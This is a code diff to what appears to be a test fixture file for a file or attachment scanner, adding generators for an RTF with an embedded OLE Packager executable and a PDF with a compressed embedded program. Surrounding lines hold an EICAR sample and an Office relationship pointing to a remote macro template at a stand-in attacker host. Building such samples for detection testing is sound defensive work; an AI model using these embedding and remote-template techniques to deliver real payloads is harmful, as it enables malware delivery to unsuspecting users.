@@ -43,6 +43,22 @@ const REMOTE_TEMPLATE =
   '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 const LOCAL_TEMPLATE = REMOTE_TEMPLATE.replace('https://evil.example/t.dotm', 'file:///C:/Users/li/Normal.dotm')
 
+/** [MS-OLEDS] 2.2.5 around the Packager's layout: label, path, temporary path, data. */
+function rtfWithProgram(): Buffer {
+  const text = (value: string) => Buffer.from(`${value}\0`, 'latin1')
+  const size = (value: Uint8Array) => {
+    const bytes = Buffer.alloc(4)
+    bytes.writeUInt32LE(value.length)
+    return bytes
+  }
+  const [label, temporary, bytes] = [text('setup.exe'), text('C:\\setup.exe'), program()]
+  const head = Buffer.concat([Buffer.from([2, 0]), label, temporary, Buffer.from([0, 0, 3, 0])])
+  const native = Buffer.concat([head, size(temporary), temporary, size(bytes), bytes])
+  const name = text('Package')
+  const object = Buffer.concat([Buffer.from('0105000002000000', 'hex'), size(name), name, Buffer.alloc(8), size(native), native])
+  return Buffer.from(`{\\rtf1{\\object\\objemb{\\*\\objdata ${object.toString('hex').replace(/.{64}/g, '$&\n')}}}}`)
+}
+
 const eicar = { name: 'eicar.com', bytes: EICAR }
 const exe = { name: 'setup.exe', bytes: program() }
 
@@ -72,6 +88,12 @@ export const FILES: Readonly<Record<string, () => Buffer>> = {
     return Buffer.concat([Buffer.from('%PDF-1.5\n1 0 obj<</Type/ObjStm>>stream\n'), objects, Buffer.from('\nendstream')])
   },
   'plain.pdf': () => Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n'),
+  'program.rtf': rtfWithProgram,
+  'program.pdf': () => {
+    const file = zlib.deflateSync(program())
+    const open = Buffer.from('%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\r\n')
+    return Buffer.concat([open, file, Buffer.from('\r\nendstream endobj')])
+  },
   shortcut: () => Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]),
   'disk.iso': () => {
     const bytes = Buffer.alloc(34_816)
